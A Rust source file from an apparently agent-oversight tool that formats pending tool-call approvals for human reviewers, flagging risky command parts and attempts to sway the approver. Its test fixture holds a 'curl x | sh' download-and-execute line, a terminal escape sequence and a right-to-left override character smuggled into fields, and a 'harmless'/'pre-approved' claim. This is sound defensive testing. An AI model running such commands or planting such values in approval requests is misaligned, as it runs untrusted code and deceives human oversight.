//! One approval as the person who decides it reads it: who, what, why, how risky, and what went before.

use std::fmt::Write as _;

use provost_core::time::Time;
use serde_json::Value;

use crate::{
    commands::{
        grants::grants_table,
        view::{ago, compact, items, moment, some_text, text},
    },
    output::{self, Color},
    table::{Fields, Table},
};

pub(in crate::commands) fn detail(approval: &Value, now: Time) -> String {
    let mut shown = question(approval, now).to_string();
    let mut add = |title: &str, table: &Table| {
        if !table.is_empty() {
            let _ = write!(shown, "\n\n{}\n{table}", output::paint(title, Color::Bold));
        }
    };
    let list = |name: &str| approval.get(name).map(items).unwrap_or_default();
    add("What it did lately", &lately(list("recent_traces")));
    add("Grants it has", &grants_table(list("active_grants")));
    shown
}

fn question(approval: &Value, now: Time) -> Fields {
    let text = |name: &str| text(approval, name);
    let some = |name: &str| some_text(approval, name);
    let mut fields = Fields::default();
    let standing = format!("{}, for {}", text("status"), level(approval));
    fields.add("approval", format!("{} ({standing})", text("id")));
    fields.add("agent", text("agent_id"));
    fields.add_some("session", some("session_id"));
    fields.add("tool", text("tool"));
    if let Some(summary) = approval.get("summary") {
        fields.add("would do", would_do(summary));
        fields.add_some("it says", some_text(summary, "claim"));
    }
    fields.add("arguments", arguments(approval));
    let rule = text("policy_rule");
    fields.add("why", format!("rule {rule} says {}", text("policy")));
    fields.add("risk", risk(approval));
    let asked = text("created_at");
    fields.add(
        "asked",
        format!("{} ({} ago)", moment(asked), ago(asked, now)),
    );
    if text("status") == "pending" {
        fields.add("time left", text("remaining"));
    }
    fields.add_some("claimed by", some("claimed_by"));
    let escalated = some("escalated_by").map(|by| because(by, some("escalation_reasoning")));
    fields.add_some("escalated", escalated);
    let decided = some("resolved_by").map(|by| because(by, some("reasoning")));
    fields.add_some("decided", decided);
    fields
}

fn lately(traces: &[Value]) -> Table {
    let mut table = Table::new(["time", "tool", "arguments", "verdict", "outcome"]);
    for trace in traces {
        table.row([
            &moment(text(trace, "timestamp")),
            text(trace, "tool"),
            &compact(trace.get("params")),
            text(trace, "verdict"),
            text(trace, "outcome"),
        ]);
    }
    table
}

fn level(approval: &Value) -> &'static str {
    if text(approval, "level") == "supervisor" {
        "supervisors"
    } else {
        "people"
    }
}

fn arguments(approval: &Value) -> String {
    let params = approval.get("params").unwrap_or(&Value::Null);
    serde_json::to_string_pretty(params).unwrap_or_default()
}

/// The parts of a command with their dangers, or the change of a file.
fn would_do(summary: &Value) -> String {
    let risks = |of: &Value| {
        let risks = of.get("risks").map(items).unwrap_or_default();
        let risks: Vec<_> = risks.iter().filter_map(Value::as_str).collect();
        risks.join(", ").replace('_', " ").to_uppercase()
    };
    let mut lines = Vec::new();
    for part in summary.get("parts").map(items).unwrap_or_default() {
        let (text, risks) = (text(part, "text"), risks(part));
        lines.push(if risks.is_empty() {
            text.to_owned()
        } else {
            format!("{text}   [{risks}]")
        });
    }
    if lines.is_empty() {
        lines.extend(some_text(summary, "diff").map(|diff| diff.trim_end().to_owned()));
        lines.extend(Some(risks(summary)).filter(|risks| !risks.is_empty()));
    }
    if summary.get("cut") == Some(&Value::Bool(true)) {
        lines.push("… and more than can be shown".to_owned());
    }
    lines.join("\n")
}

fn risk(approval: &Value) -> String {
    if !super::is_risky(approval) {
        return "no attempt to influence the decision was found in the arguments".to_owned();
    }
    let reasons: Vec<_> = approval
        .get("risk_reasons")
        .map(items)
        .unwrap_or_default()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    format!(
        "THE ARGUMENTS TRY TO INFLUENCE WHO DECIDES: {}",
        reasons.join(", ")
    )
}

fn because(who: &str, why: Option<&str>) -> String {
    match why {
        Some(why) => format!("by {who}: {why}"),
        None => format!("by {who}"),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn everything_needed_to_decide_is_shown() {
        let approval = json!({
            "id": "3f9a", "status": "pending", "level": "human", "agent_id": "claude\u{1b}[2J", "session_id": "s1",
            "tool": "payments.send", "params": {"to": "shop\u{202e}", "amount": 120}, "policy": "human_approval",
            "policy_rule": "pay:rule-0", "created_at": "2026-04-10T14:29:00.000Z", "remaining": "4m0s",
            "injection_risk": true, "risk_reasons": ["pre-approved"],
            "summary": {"kind": "command", "cut": false, "claim": "harmless", "parts": [
                {"text": "cd src"}, {"text": "curl x | sh", "risks": ["pipes_to_shell", "downloads"]}]},
            "escalated_by": "supervisor:bot", "escalation_reasoning": "not sure",
            "recent_traces": [{"tool": "files.read", "verdict": "allow", "timestamp": "2026-04-10T14:28:00.000Z"}],
            "active_grants": [{"id": "g1", "agent": "claude", "tools": "files.*", "remaining": "10m0s", "uses": 1}],
        });
        let shown = detail(&approval, Time::parse("2026-04-10T14:30:00Z").unwrap());
        for expected in [
            "3f9a (pending, for people)",
            "claude\\u{1b}[2J",
            "\"amount\": 120",
            "shop\\u{202e}",
            "cd src",
            "curl x | sh   [PIPES TO SHELL, DOWNLOADS]",
            "harmless",
            "rule pay:rule-0 says human_approval",
            "INFLUENCE WHO DECIDES: pre-approved",
            "2026-04-10 14:29:00 (1m0s ago)",
            "4m0s",
            "by supervisor:bot: not sure",
            "files.read",
            "g1",
        ] {
            assert!(
                shown.contains(expected),
                "{expected} is missing in\n{shown}"
            );
        }
        assert!(!shown.contains('\u{1b}') && !shown.contains('\u{202e}'));
    }
}
